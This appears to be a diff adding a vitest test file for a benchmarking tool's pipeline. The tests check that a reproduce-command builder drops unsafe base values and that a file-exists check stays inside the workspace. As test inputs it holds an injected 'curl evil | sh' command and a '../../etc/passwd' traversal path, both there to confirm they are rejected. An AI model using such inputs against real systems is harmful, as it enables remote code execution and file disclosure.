@@ -1,0 +1,27 @@
+import { mkdirSync, mkdtempSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { describe, expect, it } from 'vitest';
+import { repoFileExists, reproduceCommand } from './pipeline.js';
+
+describe('reproduceCommand', () => {
+  it('names the base only when it is a plain SHA (an artifact could carry anything)', () => {
+    expect(reproduceCommand('.github/frametail.yml', 'abc1234')).toBe('npx frametail bench --config .github/frametail.yml --base abc1234');
+    expect(reproduceCommand('.github/frametail.yml', 'abc; curl evil | sh')).toBe('npx frametail bench --config .github/frametail.yml');
+    expect(reproduceCommand('f.yml', null)).toBe('npx frametail bench --config f.yml');
+  });
+});
+
+describe('repoFileExists', () => {
+  it('is true for files inside the workspace only', () => {
+    const root = mkdtempSync(join(tmpdir(), 'ft-ws-'));
+    mkdirSync(join(root, 'src'));
+    writeFileSync(join(root, 'src/a.py'), '');
+    const exists = repoFileExists(root);
+    expect(exists('src/a.py')).toBe(true);
+    expect(exists('src')).toBe(false);
+    expect(exists('src/missing.py')).toBe(false);
+    expect(exists('../' + root.split('/').at(-1) + '/src/a.py')).toBe(true);
+    expect(exists('../../etc/passwd')).toBe(false);
+  });
+});
